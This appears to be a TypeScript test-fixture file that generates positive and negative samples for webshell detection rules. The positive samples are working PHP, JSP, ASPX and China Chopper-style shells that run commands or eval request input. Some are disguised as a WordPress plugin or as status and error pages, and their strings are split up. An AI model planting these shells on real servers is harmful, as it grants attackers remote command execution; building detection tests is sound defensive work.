import { ascii, crlf, j, lf, negative, positive } from './sample-kit'
import type { PlantedSample } from './sample-kit'

const IIS = 'inetpub/wwwroot'
const WORDPRESS = 'var/www/html'
const TOMCAT = 'opt/tomcat/webapps/ROOT'

/** Samples for the two PHP rules. */
export function phpSamples(): PlantedSample[] {
  const direct = 'WEBSHELL_PHP_Eval_Of_Request_Input'
  const chain = 'WEBSHELL_PHP_Obfuscated_Eval_Chain'
  const oneLiner = j('@ev', 'al($_PO', "ST['z0']);")
  const loader = j('ev', 'al(gzin', "flate(base64_decode('S0xMTE1NSQEA')));")
  const plugin = lf(
    '<?php',
    loader,
    '/**',
    ' * Plugin Name: Hello Dolly',
    ' */',
    'function hello_dolly_get_lyric() {',
    '  return wptexturize("Hello, Dolly");',
    '}',
  )
  const contact = lf(
    '<?php',
    "$name = htmlspecialchars($_POST['name'] ?? '', ENT_QUOTES);",
    "$file = escapeshellarg($_FILES['photo']['tmp_name']);",
    "exec('/usr/bin/convert ' . $file . ' -resize 200x200 /tmp/thumb.png');",
    "mail('sales@example.org', 'Contact form', 'From ' . $name);",
  )
  const thumbnail = lf(
    '<?php',
    '// Decode an uploaded data URI; never eval() what a client sends.',
    "$data = base64_decode(substr($_POST['image'], 22));",
    '$img = imagecreatefromstring($data);',
    "$meta = json_decode($_POST['meta'], true);",
  )
  return [
    positive(direct, '$exec', `${IIS}/uploads/img_2291.php`, lf('<?php', oneLiner, '?>'), 'eval'),
    negative(direct, `${IIS}/contact.php`, contact),
    positive(chain, '$chain', `${WORDPRESS}/wp-content/plugins/hello.php`, plugin, loader),
    negative(chain, `${WORDPRESS}/wp-includes/images/thumb.php`, thumbnail),
  ]
}

/** Samples for the JSP rule. */
export function jspSamples(): PlantedSample[] {
  const rule = 'WEBSHELL_JSP_Runtime_Exec_Of_Request_Parameter'
  const exec = j('Runtime.get', 'Runtime().ex', 'ec(cmd)')
  const shell = lf(
    '<%@ page import="java.io.*" %>',
    '<%',
    j('  String cmd = request.get', 'Parameter("c");'),
    `  Process p = ${exec};`,
    '  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));',
    '  for (String l; (l = r.readLine()) != null; ) out.println(l);',
    '%>',
  )
  const status = lf(
    '<%@ page contentType="text/html; charset=UTF-8" %>',
    '<% String who = request.getParameter("name"); %>',
    '<p>Hello <%= org.owasp.encoder.Encode.forHtml(who) %></p>',
    '<p>CPUs: <%= Runtime.getRuntime().availableProcessors() %></p>',
    '<p>Free memory: <%= Runtime.getRuntime().freeMemory() %></p>',
  )
  return [
    positive(rule, '$exec', `${TOMCAT}/status.jsp`, shell, exec),
    negative(rule, `${TOMCAT}/hello.jsp`, status),
  ]
}

/** Samples for the ASPX command-shell rule. */
export function aspxSamples(): PlantedSample[] {
  const rule = 'WEBSHELL_ASPX_Process_Start_From_Request'
  const start = j('Process.St', 'art(psi)')
  const commandShell = crlf(
    '<%@ Page Language="C#" %>',
    '<%@ Import Namespace="System.Diagnostics" %>',
    '<script runat="server">',
    'void Page_Load(object sender, EventArgs e) {',
    '  var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe");',
    j('  psi.Arguments = "/c " + Request.Fo', 'rm["c"];'),
    '  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;',
    `  Response.Write(${start}.StandardOutput.ReadToEnd());`,
    '}',
    '</script>',
  )
  const feedback = crlf(
    '<%@ Page Language="C#" %>',
    '<script runat="server">',
    'void Page_Load(object sender, EventArgs e) {',
    '  if (!IsPostBack) return;',
    '  var mail = new System.Net.Mail.SmtpClient("smtp.example.org");',
    '  mail.Send("web@example.org", "sales@example.org", "Feedback", Request.Form["text"]);',
    '}',
    '</script>',
  )
  return [
    positive(rule, '$proc1', `${IIS}/aspnet_client/system_web/help.aspx`, commandShell, start),
    negative(rule, `${IIS}/feedback.aspx`, feedback),
  ]
}

/** Samples for the China Chopper style one-liner rule. */
export function chopperSamples(): PlantedSample[] {
  const rule = 'WEBSHELL_ASP_Eval_Request_One_Liner'
  const oneLiner = j('ev', 'al(Request.It', 'em["z"],"unsafe");')
  const page = ascii(`<%@ Page Language="Jscript"%><%${oneLiner}%>`)
  const calculator = crlf(
    '<%@ Page Language="JScript" %>',
    '<%',
    'var expr = Request.Item["expr"];',
    '// Parsed by a safe arithmetic parser: never eval() a request field.',
    'Response.Write(Server.HtmlEncode(String(expr)));',
    '%>',
  )
  return [
    positive(rule, '$eval_item', `${IIS}/aspnet_client/errors.aspx`, page, oneLiner),
    negative(rule, `${IIS}/calc.aspx`, calculator),
  ]
}
